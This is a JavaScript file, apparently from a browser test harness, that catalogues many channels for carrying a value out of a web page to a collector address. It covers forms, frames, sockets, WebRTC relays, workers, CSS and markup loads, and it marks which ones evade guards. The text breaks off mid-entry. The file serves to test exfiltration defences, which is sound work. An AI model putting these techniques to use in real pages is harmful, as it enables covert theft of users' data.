// Ways out of a page that are not among the demo's buttons, one by one. Every way gets a value and
// `to`, an address at the collector that is its own, and has the value seen there: `start` gives
// the text only where it never leaves the machine and the page itself reads what was kept of it.
//
// The tests load this file outside a browser too, for the names: nothing of a page is touched
// before a way is started.
//
//   channel   what the notice of a refusal names
//   has       whether the browser has what the way needs
//   only      the browsers in which it leads out, where nothing that a page sees tells it
//   press     a person presses on what `start` has put into the upper left corner
//   datagram  seen to arrive as a datagram only
//   anywhere  nobody can tell where it leads to, so that it is refused to the custodian too
//   quiet     sends the value only when it was asked for it before, by the guard
//   own       leads to the page's own site, the custodian: refused on another site only, see remembered.test.mjs
//   uncaught  no guard in a page can stop it, in any browser or in those named: the tests say that it still leads out
'use strict';
var stageWaysOut = (() => {
  const at = (to, value) => `${to}/got?contact=${encodeURIComponent(value)}`;
  const socketOf = (to) => to.replace(/^http/, 'ws');
  const SVG = 'http://www.w3.org/2000/svg';

  const element = (tag, properties = {}, ...children) => {
    const made = Object.assign(document.createElement(tag), properties);
    made.append(...children);
    return made;
  };
  const into = (node, parent = document.body) => { parent.append(node); return node; };
  const event = (target, type) => new Promise((done, fail) => {
    target.addEventListener(type, done, { once: true });
    target.addEventListener('error', () => fail(new DOMException('', 'NetworkError')), { once: true });
  });
  const corner = 'position: fixed; left: 0; top: 0; width: 200px; height: 100px; z-index: 9';
  const bytes = (value) => new TextEncoder().encode(value);
  const post = (to, body, more) => fetch(`${to}/got`, { method: 'POST', mode: 'no-cors', body, ...more });

  // --- Windows, links and forms ----------------------------------------------------------------

  const link = (to, value) => element('a', { href: at(to, value), target: '_blank', textContent: 'link' });
  const form = (to, value) => element('form', { action: `${to}/got`, method: 'post', target: '_blank' },
    element('input', { name: 'contact', value }), element('button', { textContent: 'button', style: corner }));
  /** The inside of a closed shadow root, which no listener outside sees. */
  const closed = () => into(document.createElement('div')).attachShadow({ mode: 'closed' });
  /** The inside of a shadow root that no call of `attachShadow` has made. */
  const declared = () => {
    const around = into(document.createElement('div'));
    around.setHTMLUnsafe('<div><template shadowrootmode="open"></template></div>');
    return around.firstChild.shadowRoot;
  };
  /** A form that says the value only when it is asked, at once or the second time. */
  const answering = (to, value, times) => {
    const made = form(to, 'nothing');
    let asked = 0;
    made.addEventListener('formdata', ({ formData }) => {
      asked += 1;
      if (asked >= times) formData.append('more', value);
    });
    return into(made);
  };

  const windows = {
    'window.open, address': { channel: 'navigation', start: (value, to) => { open(at(to, value)); } },
    'window.open, name of the window': { channel: 'message', start: (value, to) => { open(`${to}/name`, value); } },
    'window.open, its location set afterwards': { channel: 'navigation', uncaught: true, start: (value, to) => { open('').location = at(to, value); } },
    'window.open, written into': {
      channel: 'resource', start: (value, to) => { open('').document.write(`<img src="${at(to, value)}" alt="">`); },
    },
    'link to a new window, click()': { channel: 'link', start: (value, to) => { into(link(to, value)).click(); } },
    'link to a new window, pressed': { channel: 'link', press: true, start: (value, to) => { into(link(to, value)).style = corner; } },
    'link in a closed shadow root to a new window, pressed': {
      channel: 'link', press: true, start: (value, to) => { into(link(to, value), closed()).style = corner; },
    },
    'form to a new window, submit()': { channel: 'form', start: (value, to) => { into(form(to, value)).submit(); } },
    'form to a new window, requestSubmit()': { channel: 'form', start: (value, to) => { into(form(to, value)).requestSubmit(); } },
    'form to a new window, pressed': { channel: 'form', press: true, start: (value, to) => { into(form(to, value)); } },
    'form in a closed shadow root to a new window, submit()': { channel: 'form', start: (value, to) => { into(form(to, value), closed()).submit(); } },
    'form in a closed shadow root to a new window, requestSubmit()': { channel: 'form', start: (value, to) => { into(form(to, value), closed()).requestSubmit(); } },
    'form in a closed shadow root to a new window, pressed': { channel: 'form', press: true, start: (value, to) => { into(form(to, value), closed()); } },
    'form in a declared shadow root to a new window, requestSubmit()': { channel: 'form', start: (value, to) => { into(form(to, value), declared()).requestSubmit(); } },
    'form in a declared shadow root to a new window, pressed': { channel: 'form', press: true, start: (value, to) => { into(form(to, value), declared()); } },
    'form to a new window, value added as it is asked, submit()': { channel: 'form', start: (value, to) => { answering(to, value, 1).submit(); } },
    'form to a new window, value added as it is asked, requestSubmit()': { channel: 'form', start: (value, to) => { answering(to, value, 1).requestSubmit(); } },
    'form to a new window, value added as it is asked, pressed': { channel: 'form', press: true, start: (value, to) => { answering(to, value, 1); } },
    'form to a new window, value added the second time, submit()': { channel: 'form', quiet: true, start: (value, to) => { answering(to, value, 2).submit(); } },
    'form to a new window, value added the second time, requestSubmit()': { channel: 'form', quiet: true, start: (value, to) => { answering(to, value, 2).requestSubmit(); } },
    'form to a new window, value added the second time, pressed': { channel: 'form', quiet: true, press: true, start: (value, to) => { answering(to, value, 2); } },
    'window.name of a frame': {
      channel: 'message',
      start: (value, to) => { const frame = into(element('iframe')); frame.contentWindow.name = value; frame.src = `${to}/name`; },
    },
    'iframe name property': { channel: 'message', start: (value, to) => { into(element('iframe', { name: value, src: `${to}/name` })); } },
    'iframe name attribute': {
      channel: 'message',
      start: (value, to) => { const frame = element('iframe', { src: `${to}/name` }); frame.setAttribute('name', value); into(frame); },
    },
    'meta refresh, by markup': {
      channel: 'navigation',
      start: (value, to) => { document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0; url=${at(to, value)}">`); },
    },
    'meta refresh, by element': {
      channel: 'navigation',
      start: (value, to) => { into(element('meta', { httpEquiv: 'refresh', content: `0; url=${at(to, value)}` }), document.head); },
    },
  };

  // --- Requests, as a control; bodies that cannot be read at once ------------------------------

  const xhr = (to, body) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${to}/got`);
    request.send(body);
    return event(request, 'load').then(() => {});
  };
  const beacon = (to, body) => { if (!navigator.sendBeacon(`${to}/got`, body)) throw new DOMException('', 'NetworkError'); };
  /** A blob that no constructor of the page has made: of an answer of the page's own site. */
  const ofResponse = async (value) => (await fetch('/echo', { method: 'POST', body: value })).blob();
  const promised = (request) => new Promise((done, fail) => {
    request.onsuccess = () => done(request.result);
    request.onerror = () => fail(request.error);
  });
  /** One that the browser has kept, and gives back as another object. */
  const ofDatabase = async (value) => {
    const opening = indexedDB.open(`stage-${Math.random()}`);
    opening.onupgradeneeded = () => opening.result.createObjectStore('kept');
    const database = await promised(opening);
    await promised(database.transaction('kept', 'readwrite').objectStore('kept').put(new Blob([value]), 'blob'));
    return promised(database.transaction('kept').objectStore('kept').get('blob'));
  };
  const sent = async (to, what) => { const socket = await connected(to); socket.send(await what); };
  const requests = {
    'fetch': { channel: 'fetch', start: (value, to) => post(to, value) },
    'XMLHttpRequest': { channel: 'xhr', start: (value, to) => xhr(to, value) },
    'sendBeacon': { channel: 'beacon', start: (value, to) => beacon(to, value) },
    'fetchLater': {
      channel: 'fetch', has: () => 'fetchLater' in window,
      start: (value, to) => { fetchLater(`${to}/got`, { method: 'POST', body: value, activateAfter: 0 }); },
    },
    // Chromium sends a stream by HTTP/2 and later only, Firefox not at all.
    'fetch, a stream': {
      channel: 'fetch', only: [],
      start: (value, to) => post(to, new Blob([value]).stream(), { duplex: 'half', mode: 'cors' }),
    },
    'fetch, a request made of a blob': {
      channel: 'fetch', start: (value, to) => fetch(new Request(`${to}/got`, { method: 'POST', mode: 'no-cors', body: new Blob([value]) })),
    },
    'fetch, a request made of a stored blob': {
      channel: 'fetch',
      start: async (value, to) => fetch(new Request(`${to}/got`, { method: 'POST', mode: 'no-cors', body: await ofDatabase(value) })),
    },
  };
  for (const [kind, make] of [['the blob of a response', ofResponse], ['a blob out of a database', ofDatabase]]) {
    Object.assign(requests, {
      [`fetch, ${kind}`]: { channel: 'fetch', start: async (value, to) => post(to, await make(value)) },
      [`fetch, ${kind}, in a form`]: {
        channel: 'fetch',
        start: async (value, to) => { const data = new FormData(); data.append('file', await make(value)); return post(to, data); },
      },
      [`XMLHttpRequest, ${kind}`]: { channel: 'xhr', start: async (value, to) => xhr(to, await make(value)) },
      [`sendBeacon, ${kind}`]: { channel: 'beacon', start: async (value, to) => beacon(to, await make(value)) },
      [`WebSocket.send, ${kind}`]: { channel: 'socket', start: (value, to) => sent(to, make(value)) },
    });
  }

  // --- Connections that stay open --------------------------------------------------------------

  const connected = async (to) => {
    const socket = stageWaysOut.kept = new WebSocket(`${socketOf(to)}/ws`);
    await event(socket, 'open');
    return socket;
  };
  /** Two ends of a connection in this page. */
  const peers = async (label) => {
    const [one, other] = stageWaysOut.kept = [new RTCPeerConnection(), new RTCPeerConnection()];
    one.onicecandidate = ({ candidate }) => { if (candidate) other.addIceCandidate(candidate); };
    other.onicecandidate = ({ candidate }) => { if (candidate) one.addIceCandidate(candidate); };
    const channel = one.createDataChannel(label);
    const answered = new Promise((done) => { other.ondatachannel = (heard) => done(heard.channel); });
    await one.setLocalDescription();
    await other.setRemoteDescription(one.localDescription);
    await other.setLocalDescription();
    await one.setRemoteDescription(other.localDescription);
    return { channel, opened: event(channel, 'open'), answered };
  };
  const overPeers = async (value, wrap = (text) => text) => {
    const { channel, opened, answered } = await peers('stage');
    const other = await answered;
    other.binaryType = 'arraybuffer';
    const heard = new Promise((done) => { other.onmessage = ({ data }) => done(data); });
    await opened;
    channel.send(wrap(value));
    const data = await heard;
    return typeof data === 'string' ? data : new TextDecoder().decode(data);
  };
  /** A relay server, which is told the user's name. It gets the path, to tell one try from another. */
  const relayedBy = (to, value) => {
    const { host, pathname } = new URL(to);
    const urls = `turn:127.0.0.1:${host.split(':')[1]}?transport=udp`;
    return { iceTransportPolicy: 'relay', iceServers: [{ urls, username: `${pathname}/ ${value}`, credential: 'x' }] };
  };
  const gather = async (connection) => {
    stageWaysOut.kept = connection;
    connection.createDataChannel('stage');
    await connection.setLocalDescription();
  };
  const transport = (to) => to.replace(/^http:\/\/[^:]+/, 'https://127.0.0.1');
  const hasStream = () => 'WebSocketStream' in window;
  const connections = {
    'EventSource, address': { channel: 'socket', start: (value, to) => { stageWaysOut.kept = new EventSource(at(to, value)); } },
    'WebSocket, address': { channel: 'socket', start: (value, to) => { stageWaysOut.kept = new WebSocket(`${socketOf(to)}/ws?contact=${encodeURIComponent(value)}`); } },
    'WebSocket, protocol': { channel: 'socket', start: (value, to) => { stageWaysOut.kept = new WebSocket(`${socketOf(to)}/ws`, encodeURIComponent(value)); } },
    'WebSocket, one of its protocols': { channel: 'socket', start: (value, to) => { stageWaysOut.kept = new WebSocket(`${socketOf(to)}/ws`, ['stage', encodeURIComponent(value)]); } },
    'WebSocket.send, text': { channel: 'socket', start: (value, to) => sent(to, value) },
    'WebSocket.send, buffer': { channel: 'socket', start: (value, to) => sent(to, bytes(value).buffer) },
    'WebSocket.send, bytes': { channel: 'socket', start: (value, to) => sent(to, bytes(value)) },
    'WebSocket.send, blob': { channel: 'socket', start: (value, to) => sent(to, new Blob([value])) },
    'WebSocketStream, address': { channel: 'socket', has: hasStream, start: (value, to) => { stageWaysOut.kept = new WebSocketStream(`${socketOf(to)}/ws?contact=${encodeURIComponent(value)}`); } },
    'WebSocketStream, protocol': {
      channel: 'socket', has: hasStream,
      start: (value, to) => { stageWaysOut.kept = new WebSocketStream(`${socketOf(to)}/ws`, { protocols: [encodeURIComponent(value)] }); },
    },
    'WebSocketStream, written': {
      channel: 'socket', has: hasStream,
      start: async (value, to) => {
        const { writable } = await (stageWaysOut.kept = new WebSocketStream(`${socketOf(to)}/ws`)).opened;
        await writable.getWriter().write(value);
      },
    },
    'WebTransport, address': {
      channel: 'socket', datagram: true, anywhere: true, has: () => 'WebTransport' in window,
      start: (value, to) => {
        const made = stageWaysOut.kept = new WebTransport(at(transport(to), value));
        made.ready.catch(() => {});
        made.closed.catch(() => {});
      },
    },
    'RTCPeerConnection, name of a user': { channel: 'socket', anywhere: true, start: (value, to) => gather(new RTCPeerConnection(relayedBy(to, value))) },
    'RTCPeerConnection.setConfiguration, name of a user': {
      channel: 'socket', anywhere: true,
      start: (value, to) => { const made = new RTCPeerConnection(); made.setConfiguration(relayedBy(to, value)); return gather(made); },
    },
    'RTCDataChannel, label': { channel: 'socket', anywhere: true, start: async (value) => (await (await peers(value)).answered).label },
    'RTCDataChannel, protocol': {
      channel: 'socket', anywhere: true,
      start: (value) => { const { protocol } = (stageWaysOut.kept = new RTCPeerConnection()).createDataChannel('stage', { protocol: value }); return protocol; },
    },
    'RTCDataChannel.send, text': { channel: 'socket', anywhere: true, start: (value) => overPeers(value) },
    'RTCDataChannel.send, bytes': { channel: 'socket', anywhere: true, start: (value) => overPeers(value, bytes) },
    'RTCDataChannel.send, blob': { channel: 'socket', anywhere: true, start: (value) => overPeers(value, (text) => new Blob([text])) },
  };

  // --- Messages to other windows and workers ---------------------------------------------------

  const relay = async (to) => {
    const frame = into(element('iframe', { src: `${to}/relay` }));
    await event(frame, 'load');
    return frame.contentWindow;
  };
  const source = (to, what) => `fetch(${JSON.stringify(`${to}/got`)}, { method: 'POST', mode: 'no-cors', body: ${what} });`;
  const blobOf = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const dataOf = (text) => `data:text/javascript,${encodeURIComponent(text)}`;
  const worker = (url, options) => { stageWaysOut.kept = new Worker(url, options); return stageWaysOut.kept; };
  const shared = (url) => { stageWaysOut.kept = new SharedWorker(url); return stageWaysOut.kept; };
  const listening = (to) => `onmessage = ({ data }) => { ${source(to, 'String(data.value ?? data)')} };`;
  const sharing = (to) => `onconnect = ({ ports }) => { ports[0].onmessage = ({ data }) => { ${source(to, 'String(data)')} }; };`;
  const messages = {
    'postMessage to a frame of another site': {
      channel: 'message', uncaught: true, start: async (value, to) => { (await relay(to)).postMessage(value, '*'); },
    },
    'postMessage to a window of another site': {
      channel: 'message', uncaught: true,
      start: async (value, to) => {
        const opened = open(`${to}/relay`);
        await event(window, 'message');
        opened.postMessage(value, '*');
      },
    },
    'MessagePort.postMessage to a frame of another site': {
      channel: 'message',
      start: async (value, to) => {
        const { port1, port2 } = stageWaysOut.kept = new MessageChannel();
        (await relay(to)).postMessage('port', '*', [port2]);
        port1.postMessage(value);
      },
    },
    'MessagePort.postMessage before the port is handed over': {
      channel: 'message',
      start: async (value, to) => {
        const { port1, port2 } = stageWaysOut.kept = new MessageChannel();
        const frame = await relay(to);
        port1.postMessage(value);
        frame.postMessage('port', '*', [port2]);
      },
    },
    'Worker.postMessage': { channel: 'message', start: (value, to) => { worker(blobOf(listening(to))).postMessage(value); } },
    'Worker.postMessage, in an object': { channel: 'message', start: (value, to) => { worker(blobOf(listening(to))).postMessage({ value }); } },
    'Worker.postMessage, bytes': {
      channel: 'message',
      start: (value, to) => { worker(blobOf(`onmessage = ({ data }) => { ${source(to, 'data')} };`)).postMessage(bytes(value)); },
    },
    'Worker.postMessage, blob': {
      channel: 'message',
      start: (value, to) => { worker(blobOf(`onmessage = ({ data }) => { ${source(to, 'data')} };`)).postMessage(new Blob([value])); },
    },
    'MessagePort.postMessage to a worker': {
      channel: 'message',
      start: (value, to) => {
        const { port1, port2 } = new MessageChannel();
        worker(blobOf(`onmessage = ({ ports }) => { ports[0].onmessage = ({ data }) => { ${source(to, 'String(data)')} }; };`)).postMessage('port', [port2]);
        port1.postMessage(value);
      },
    },
    'Worker of a blob': { channel: 'message', start: (value, to) => { worker(blobOf(source(to, JSON.stringify(value)))); } },
    'Worker of a data: address': { channel: 'message', start: (value, to) => { worker(dataOf(source(to, JSON.stringify(value)))); } },
    'Worker, its name': { channel: 'message', start: (value, to) => { worker(blobOf(source(to, 'name')), { name: value }); } },
    'SharedWorker, its port': { channel: 'message', start: (value, to) => { shared(blobOf(sharing(to))).port.postMessage(value); } },
    'SharedWorker of a blob': { channel: 'message', start: (value, to) => { shared(blobOf(source(to, JSON.stringify(value)))); } },
    'SharedWorker of a data: address': { channel: 'message', start: (value, to) => { shared(dataOf(source(to, JSON.stringify(value)))); } },
    'ServiceWorker.postMessage': {
      channel: 'message', own: true,
      start: async (value, to) => {
        // The page is not in its scope, so that nothing of it is left for the next page.
        const scope = '/service-worker/';
        await (await navigator.serviceWorker.getRegistration(scope))?.unregister();
        const registration = await navigator.serviceWorker.register(`/service-worker.js?${encodeURIComponent(to)}`, { scope });
        const made = registration.installing ?? registration.waiting ?? registration.active;
        while (made.state !== 'activated') await event(made, 'statechange');
        made.postMessage(value);
      },
    },
  };

  // --- Files, other programs, pictures ---------------------------------------------------------

  const folder = () => navigator.storage.getDirectory();
  /** What is in a file when something was written there. @param {(writable: any) => unknown} write */
  const written = (write) => async (value) => {
    const files = await folder();
    const name = `stage-${Math.random()}`;
    const file = await files.getFileHandle(name, { create: true });
    const writable = await file.createWritable();
    try {
      await write(writable, value);
      await writable.close().catch(() => {});
      return await (await file.getFile()).text();
    } finally {
      files.removeEntry(name).catch(() => {});
    }
  };
  const size = [300, 40];
  const canvas = () => element('canvas', { width: size[0], height: size[1] });
  const draw = (context, value) => { context.font = '20px sans-serif'; context.fillText(value, 5, 25); };
  /** The value, if there is a picture of something. */
  const drawn = (read, { make = canvas, drawing = draw } = {}) => async (value) => {
    const made = make();
    const context = made.getContext('2d');
    const blank = await read(made);
    drawing(context, value);
    return (await read(made)) === blank ? '' : value;
  };
  const toText = (blob) => new Promise((done) => {
    const reader = new FileReader();
    reader.onload = () => done(reader.result);
    reader.readAsDataURL(blob);
  });
  const asBlob = (made) => new Promise((done, fail) => made.toBlob((blob) => (blob ? done(toText(blob)) : fail(new DOMException('', 'SecurityError')))));
  const asPixels = (made) => made.getContext('2d').getImageData(0, 0, ...size).data.join();
  const offscreen = () => new OffscreenCanvas(...size);
  const notified = async (title, options) => {
    const made = new Notification(title, options);
    await event(made, 'show');
    return `${made.title} ${made.body}`;
  };
  const sinks = {
    'file, write() of text': { channel: 'download', start: written((file, value) => file.write(value)) },
    'file, write() of a blob': { channel: 'download', start: written((file, value) => file.write(new Blob([value]))) },
    'file, write() of bytes': { channel: 'download', start: written((file, value) => file.write(bytes(value))) },
    'file, write() of an order with data': { channel: 'download', start: written((file, value) => file.write({ type: 'write', position: 0, data: value })) },
    'file, by a writer': { channel: 'download', start: written(async (file, value) => { const writer = file.getWriter(); await writer.write(value); writer.releaseLock(); }) },
    'file, by pipeTo()': { channel: 'download', start: written((file, value) => new Blob([value]).stream().pipeTo(file)) },
    'file, by pipeTo() of a response': { channel: 'download', start: written((file, value) => new Response(value).body.pipeTo(file)) },
    'file, its name': {
      channel: 'download',
      start: async (value) => {
        const files = await folder();
        await files.getFileHandle(value, { create: true });
        const names = await Array.fromAsync(files.keys());
        files.removeEntry(value).catch(() => {});
        return names.join();
      },
    },
    'folder, its name': {
      channel: 'download',
      start: async (value) => {
        const files = await folder();
        await files.getDirectoryHandle(value, { create: true });
        const names = await Array.fromAsync(files.keys());
        files.removeEntry(value).catch(() => {});
        return names.join();
      },
    },
    'navigator.share': { channel: 'share', has: () => 'share' in navigator, start: async (value) => { await navigator.share({ text: value }); return value; } },
    'registerProtocolHandler': {
      channel: 'share', own: true, has: () => 'registerProtocolHandler' in navigator,
      start: (value) => { navigator.registerProtocolHandler('web+stage', `/handler?contact=${encodeURIComponent(value)}&url=%s`); return value; },
    },
    'Notification, title': { channel: 'share', start: (value) => notified(value) },
    'Notification, text': { channel: 'share', start: (value) => notified('Stage', { body: value }) },
    'canvas, toDataURL()': { channel: 'picture', start: drawn((made) => made.toDataURL()) },
    'canvas, toBlob()': { channel: 'picture', start: drawn(asBlob) },
    'canvas, getImageData()': { channel: 'picture', start: drawn(asPixels) },
    'canvas, strokeText()': {
      channel: 'picture', start: drawn((made) => made.toDataURL(), { drawing: (context, value) => { context.strokeText(value, 5, 25); } }),
    },
    'canvas, letter by letter': {
      channel: 'picture',
      start: drawn((made) => made.toDataURL(), { drawing: (context, value) => { [...value].forEach((letter, index) => context.fillText(letter, 5 + 9 * index, 25)); } }),
    },
    'canvas, drawn upon another': {
      channel: 'picture',
      start: drawn((made) => made.toDataURL(), { drawing: (context, value) => { const first = canvas(); draw(first.getContext('2d'), value); context.drawImage(first, 0, 0); } }),
    },
    'OffscreenCanvas, convertToBlob()': { channel: 'picture', start: drawn(async (made) => toText(await made.convertToBlob()), { make: offscreen }) },
    'OffscreenCanvas, getImageData()': { channel: 'picture', start: drawn(asPixels, { make: offscreen }) },
    'document picture-in-picture, fetch': {
      channel: 'fetch', has: () => 'documentPictureInPicture' in window,
      start: async (value, to) => {
        const opened = await documentPictureInPicture.requestWindow();
        await opened.fetch(`${to}/got`, { method: 'POST', mode: 'no-cors', body: value });
      },
    },
    'document picture-in-picture, image': {
      channel: 'resource', has: () => 'documentPictureInPicture' in window,
      start: async (value, to) => { const opened = await documentPictureInPicture.requestWindow(); new opened.Image().src = at(to, value); },
    },
  };

  // --- Addresses that the page loads by itself -------------------------------------------------

  /** @param {(url: string) => unknown} load */
  const loads = (load, more) => ({ channel: 'resource', start: (value, to) => { stageWaysOut.kept = load(at(to, value)); return undefined; }, ...more });
  /** A way whose refusal is a rejected promise. */
  const awaits = (load, more) => ({ channel: 'resource', start: async (value, to) => { await load(at(to, value)); }, ...more });
  const set = (node, name, value) => { node.setAttribute(name, value); return node; };
  const styled = (set) => loads((url) => {
    const node = into(element('div', { textContent: 'x' }));
    set(node, `url(${JSON.stringify(url)})`);
    return node;
  });
  const asked = (tag, properties) => into(element(tag, properties));
  const markup = (url) => `<img src="${url}" alt="">`;
  const sheetOf = (url) => `body { background-image: url(${JSON.stringify(url)}) }`;

  const resources = {
    'image, new Image()': loads((url) => { new Image().src = url; }),
    'image, src': loads((url) => asked('img', { src: url })),
    'image, setAttribute()': loads((url) => set(asked('img'), 'src', url)),
    'image, setAttributeNS()': loads((url) => { asked('img').setAttributeNS(null, 'src', url); }),
    'image, value of the attribute': loads((url) => { const image = set(asked('img'), 'src', 'data:,'); image.getAttributeNode('src').value = url; }),
    'image, text of the attribute': loads((url) => { const image = set(asked('img'), 'src', 'data:,'); image.getAttributeNode('src').textContent = url; }),
    'image, attribute put in': loads((url) => { const attribute = document.createAttribute('src'); attribute.value = url; asked('img').setAttributeNode(attribute); }),
    'image, attribute put into the list': loads((url) => { const attribute = document.createAttribute('src'); attribute.nodeValue = url; asked('img').attributes.setNamedItem(attribute); }),
    'image, cloned': loads((url) => { const image = element('img', { src: url }); return into(image.cloneNode()); }),
    'image, srcset': loads((url) => asked('img', { srcset: `${url} 1x` })),
    'picture, srcset of a source': loads((url) => into(element('picture', {}, element('source', { srcset: url }), element('img')))),
    'input, src of an image': loads((url) => asked('input', { type: 'image', src: url })),
    'script, src': loads((url) => asked('script', { src: url })),
    'script of a module, src': loads((url) => asked('script', { type: 'module', src: url })),
    'script of a module, import': loads((url) => asked('script', { type: 'module', textContent: `import ${JSON.stringify(url)};` }), { anywhere: true }),
    'script, imported by eval': loads((url) => { (0, eval)(`import(${JSON.stringify(url)}).catch(() => {})`); }, { uncaught: true }),
    'import()': awaits((url) => import(url).catch(() => {}), { uncaught: true }),
    'import map, then import()': awaits((url) => {
      asked('script', { type: 'importmap', textContent: JSON.stringify({ imports: { stage: url } }) });
      return import('stage').catch(() => {});
    }, { anywhere: true }),
    'link, style sheet': loads((url) => asked('link', { rel: 'stylesheet', href: url })),
    'link, relation set last': loads((url) => { const made = asked('link', { href: url }); made.rel = 'stylesheet'; }),
    'link, prefetch': loads((url) => asked('link', { rel: 'prefetch', href: url })),
    'link, preload': loads((url) => asked('link', { rel: 'preload', as: 'image', href: url })),
    'link, preload, imagesrcset': loads((url) => asked('link', { rel: 'preload', as: 'image', imageSrcset: url })),
    'link, module preload': loads((url) => asked('link', { rel: 'modulepreload', href: url })),
    // Chromium loads neither in a browser without a window, Firefox no manifest.
    'link, icon': loads((url) => asked('link', { rel: 'icon', href: url }), { only: ['firefox'] }),
    'link, manifest': loads((url) => asked('link', { rel: 'manifest', href: url }), { only: [] }),
    'video, src': loads((url) => asked('video', { src: url })),
    'video, poster': loads((url) => asked('video', { poster: url })),
    'audio, src': loads((url) => { new Audio(url).load(); }),
    'video, src of a source': loads((url) => into(element('video', {}, element('source', { src: url })))),
    'video, src of a track': loads((url) => {
      const track = element('track', { kind: 'captions', default: true, src: url });
      into(element('video', { crossOrigin: 'anonymous', src: 'data:,' }, track));
      track.track.mode = 'showing';
    }),
    'frame, src': loads((url) => asked('iframe', { src: url })),
    'frame, src once it is there': loads((url) => { asked('iframe').src = url; }),
    'frame, srcdoc': loads((url) => asked('iframe', { srcdoc: markup(url) })),
    'frame, srcdoc in a sandbox': loads((url) => asked('iframe', { sandbox: '', srcdoc: markup(url) })),
    'frame, data: address': loads((url) => asked('iframe', { src: `data:text/html,${encodeURIComponent(markup(url))}` }), { anywhere: true, channel: 'message' }),
    'frame, blob: address': loads((url) => asked('iframe', { src: URL.createObjectURL(new Blob([markup(url)], { type: 'text/html' })) }), { anywhere: true, channel: 'message' }),
    'frame, written into': loads((url) => { const { contentDocument } = asked('iframe'); contentDocument.write(markup(url)); contentDocument.close(); }),
    'frame, its location': {
      channel: 'navigation', uncaught: true, start: (value, to) => { asked('iframe').contentWindow.location = at(to, value); },
    },
    'frame, its location, once it has loaded': {
      channel: 'navigation',
      start: async (value, to) => {
        const frame = asked('iframe', { src: '/empty' });
        await event(frame, 'load');
        frame.contentWindow.location = at(to, value);
      },
    },
    'frame of another site, its location': {
      channel: 'navigation', uncaught: true, start: async (value, to) => { (await relay(to)).location = at(to, value); },
    },
    'object, data': loads((url) => asked('object', { data: url })),
    'embed, src': loads((url) => asked('embed', { src: url })),
    'SVG image, href': loads((url) => {
      const svg = into(document.createElementNS(SVG, 'svg'));
      return into(set(document.createElementNS(SVG, 'image'), 'href', url), svg);
    }),
    'SVG image, value of its href': loads((url) => {
      const image = into(set(document.createElementNS(SVG, 'image'), 'href', 'data:,'), into(document.createElementNS(SVG, 'svg')));
      image.href.baseVal = url;
    }),
    'SVG image, xlink:href': loads((url) => {
      const image = into(document.createElementNS(SVG, 'image'), into(document.createElementNS(SVG, 'svg')));
      image.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', url);
    }),
    'body, background': loads((url) => { document.body.background = url; }),
    'table, background': loads((url) => set(asked('table'), 'background', url)),
    'markup, innerHTML': loads((url) => { asked('div').innerHTML = markup(url); }),
    'markup, innerHTML outside the page': loads((url) => { document.createElement('div').innerHTML = markup(url); }),
    'markup, innerHTML of a shadow root': loads((url) => { closed().innerHTML = markup(url); }),
    'markup, outerHTML': loads((url) => { asked('div').outerHTML = markup(url); }),
    'markup, insertAdjacentHTML()': loads((url) => { document.body.insertAdjacentHTML('beforeend', markup(url)); }),
    'markup, document.write()': loads((url) => { document.write(markup(url)); }),
    'markup, createContextualFragment()': loads((url) => into(document.createRange().createContextualFragment(markup(url)))),
    'markup, setHTMLUnsafe()': loads((url) => { asked('div').setHTMLUnsafe(markup(url)); }),
    'markup, parseHTMLUnsafe()': loads((url) => into(document.adoptNode(Document.parseHTMLUnsafe(markup(url)).body.firstChild))),
    'markup, DOMParser': loads((url) => into(document.adoptNode(new DOMParser().parseFromString(markup(url), 'text/html').body.firstChild))),
    'markup, template': loads((url) => { const template = element('template', { innerHTML: markup(url) }); return into(template.content.cloneNode(true)); }),
    'markup, another document': loads((url) => {
      const other = document.implementation.createHTMLDocument();
      other.body.innerHTML = markup(url);
      return into(document.importNode(other.body.firstChild));
    }),
    'markup, execCommand()': loads((url) => {
      const field = asked('div', { contentEditable: 'true', textContent: 'x' });
      field.focus();
      getSelection().selectAllChildren(field);
      document.execCommand('insertHTML', false, markup(url));
    }),
    'style, attribute': styled((node, url) => { node.setAttribute('style', `background-image: ${url}`); }),
    'style, property': styled((node, url) => { node.style = `background-image: ${url}`; }),
    'style, cssText': styled((node, url) => { node.style.cssText = `background-image: ${url}`; }),
    'style, setProperty()': styled((node, url) => { node.style.setProperty('background-image', url); }),
    'style, a custom property': styled((node, url) => { node.style.setProperty('--stage', url); node.style.backgroundImage = 'var(--stage)'; }),
    'style, backgroundImage': styled((node, url) => { node.style.backgroundImage = url; }),
    'style, background-image': styled((node, url) => { node.style['background-image'] = url; }),
    'style, listStyle': styled((node, url) => { node.style.display = 'list-item'; node.style.listStyle = url; }),
    'style, attributeStyleMap': { ...styled((node, url) => { node.attributeStyleMap.set('background-image', url); }), has: () => 'attributeStyleMap' in HTMLElement.prototype },
    'style, animate()': styled((node, url) => { node.animate({ backgroundImage: [url, url] }, 10_000); }),
    'style sheet, text': loads((url) => asked('style', { textContent: sheetOf(url) })),
    'style sheet, text node': loads((url) => { const style = asked('style', { textContent: 'b {}' }); style.firstChild.data = sheetOf(url); }),
    'style sheet, @import': loads((url) => asked('style', { textContent: `@import ${JSON.stringify(url)};` })),
    'style sheet, insertRule()': loads((url) => { asked('style').sheet.insertRule(sheetOf(url)); }),
    'style sheet, style of a rule': loads((url) => { asked('style', { textContent: 'body {}' }).sheet.cssRules[0].style.backgroundImage = `url(${JSON.stringify(url)})`; }, { uncaught: ['chromium'] }),
    'style sheet, replaceSync()': loads((url) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(sheetOf(url));
      document.adoptedStyleSheets = [sheet];
    }),
    'style sheet, replace()': awaits(async (url) => {
      const sheet = new CSSStyleSheet();
      await sheet.replace(sheetOf(url));
      document.adoptedStyleSheets = [sheet];
    }),
    'style sheet, @font-face': loads((url) => asked('style', { textContent: `@font-face { font-family: stage; src: url(${JSON.stringify(url)}) } body { font-family: stage }` })),
    'FontFace': loads((url) => { new FontFace('stage', `url(${JSON.stringify(url)})`).load().catch(() => {}); }),
    'worklet, addModule()': awaits((url) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url).catch((error) => { if (error.name !== 'AbortError') throw error; })),
    // Firefox has the attribute, and sends none unless it is set to.
    'ping of a link': loads((url) => { asked('a', { href: '#here', ping: url, textContent: 'x' }).click(); }, { only: ['chromium'] }),
    'speculation rules': {
